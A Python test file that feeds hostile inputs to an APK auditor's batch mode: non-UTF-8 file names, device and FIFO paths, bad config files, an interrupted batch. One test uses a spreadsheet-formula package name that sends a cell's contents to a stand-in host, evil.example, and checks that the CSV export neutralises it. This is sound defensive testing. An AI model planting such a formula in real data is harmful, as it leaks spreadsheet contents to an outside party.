"""Batches under hostile input: a file name that is not UTF-8 among good builds, a list file naming
/dev/zero or a FIFO, a list file that is itself a FIFO, inputs that fail before anything is written, a
batch that stops part-way, and a package name that is a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from auditor.batch import BatchRequest, execute, plan_batch
from auditor.batch.engines.interface import EngineKind
from auditor.batch.model import Status
from auditor.pipeline import AuditInputs
from tests.hostile.builders import apk, manifest
from tests.hostile.cli_run import CATALOG, assert_refused, run_cli

NON_UTF8 = b"bad\xff\xfe.apk"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'


def _builds(tmp_path: Path) -> Path:
    folder = tmp_path / "builds"
    folder.mkdir()
    (folder / "a-good.apk").write_bytes(apk())
    (folder / "z-good.apk").write_bytes(apk(manifest_bytes=manifest(package="com.example.other")))
    with open(os.path.join(os.fsencode(folder), NON_UTF8), "wb") as handle:
        handle.write(apk(manifest_bytes=manifest(package="com.example.third")))
    return folder


def _index(out: Path, name: str = "index.jsonl") -> list[dict]:
    return [json.loads(line) for line in (out / name).read_text(encoding="utf-8").splitlines()]


def test_a_non_utf8_file_name_does_not_abort_the_batch(tmp_path):
    out = tmp_path / "out"
    run = run_cli("batch", _builds(tmp_path), "-o", out, "--catalog", CATALOG, "--no-code", "-j", "1",
                  "--no-progress")
    assert run.code == 0, run.stderr
    records = _index(out)
    assert [r["status"] for r in records] == ["ok", "ok", "ok"]
    assert any(os.fsencode(r["path"]).endswith(NON_UTF8) for r in records)  # exact, through the JSON escape
    assert {p.name for p in out.iterdir()} >= {"index.jsonl", "portfolio.html", "portfolio.csv", "builds"}
    for name in ("portfolio.html", "portfolio.csv"):
        assert "bad\\xff\\xfe.apk" in (out / name).read_text(encoding="utf-8")
    assert not any(p.name.startswith(".") for p in out.rglob("*"))  # no temporary file left


def test_a_list_naming_devices_and_fifos_ends_with_their_errors(tmp_path):
    good = tmp_path / "good.apk"
    good.write_bytes(apk())
    fifo = tmp_path / "pipe.apk"
    os.mkfifo(fifo)
    listing = tmp_path / "builds.txt"
    listing.write_text(f"/dev/zero\n{fifo}\n{good}\n", encoding="utf-8")
    out = tmp_path / "out"
    run = run_cli("batch", listing, "-o", out, "--catalog", CATALOG, "--no-code", "-j", "1", "--no-progress")
    assert run.code == 3 and run.seconds < 10, run.stderr
    errors = {Path(r["path"]).name: r["error"] for r in _index(out) if r["status"] == "error"}
    assert errors == {"zero": "/dev/zero: build is a character device, not a regular file",
                      "pipe.apk": f"{fifo}: build is a FIFO, not a regular file"}


def test_a_list_file_that_is_a_fifo_is_refused_at_once(tmp_path):
    listing = tmp_path / "builds.txt"
    os.mkfifo(listing)
    run = run_cli("batch", listing, "-o", tmp_path / "out", "--catalog", CATALOG)
    assert_refused(run, 2, "is a FIFO")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("option, code", [("--previous", 2), ("--policy", 4), ("--config", 4)])
def test_bad_inputs_fail_before_anything_is_written(tmp_path, option, code):
    bad = tmp_path / "bad.txt"
    bad.write_text("\x00" if option != "--previous" else "", encoding="utf-8")
    value = tmp_path if option == "--previous" else bad
    run = run_cli("batch", _builds(tmp_path), "-o", tmp_path / "out", "--catalog", CATALOG, option, value)
    assert run.code == code, run.stderr
    assert not (tmp_path / "out").exists()


class _StopsAfterOne:
    """An engine that reports one build, then fails the way a full disk or a lost cluster does."""

    kind = EngineKind.LOCAL

    def __init__(self, inner: object) -> None:
        self.inner = inner

    def run(self, spec, builds, on_result):  # type: ignore[no-untyped-def]
        from auditor.batch.work import run_build

        on_result(run_build(spec, builds[0]))
        raise OSError(28, "No space left on device")


def test_a_batch_that_stops_leaves_a_whole_partial_index(tmp_path):
    folder = _builds(tmp_path)
    out = tmp_path / "out"
    inputs = AuditInputs(catalog=Path(CATALOG), code=False)
    plan = plan_batch(BatchRequest(source=folder, out=out, inputs=inputs))
    with pytest.raises(OSError, match="No space left"):
        execute(plan, _StopsAfterOne(None))
    records = _index(out, "index.jsonl.partial")
    assert [r["status"] for r in records] == [Status.OK.value, Status.ERROR.value, Status.ERROR.value]
    assert all("not scanned: the batch stopped (OSError" in r["error"] for r in records[1:])
    assert not (out / "index.jsonl").exists()  # the last complete batch (none) is not replaced
    resumed = plan_batch(BatchRequest(source=folder, out=out, inputs=inputs, resume=True))
    assert len(resumed.carried) == 1 and len(resumed.todo) == 2  # --resume carries on from there


def test_a_formula_package_name_is_neutralised_in_the_csv(tmp_path):
    folder = tmp_path / "builds"
    folder.mkdir()
    (folder / "evil.apk").write_bytes(apk(manifest_bytes=manifest(package=FORMULA)))
    out = tmp_path / "out"
    run = run_cli("batch", folder, "-o", out, "--catalog", CATALOG, "--no-code", "-j", "1", "--no-progress")
    assert run.code == 0, run.stderr
    rows = list(csv.DictReader(io.StringIO((out / "portfolio.csv").read_text(encoding="utf-8"))))
    assert rows and {r["package"] for r in rows} == {"'" + FORMULA}
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
    assert _index(out)[0]["package"] == FORMULA  # the JSON index keeps the exact value
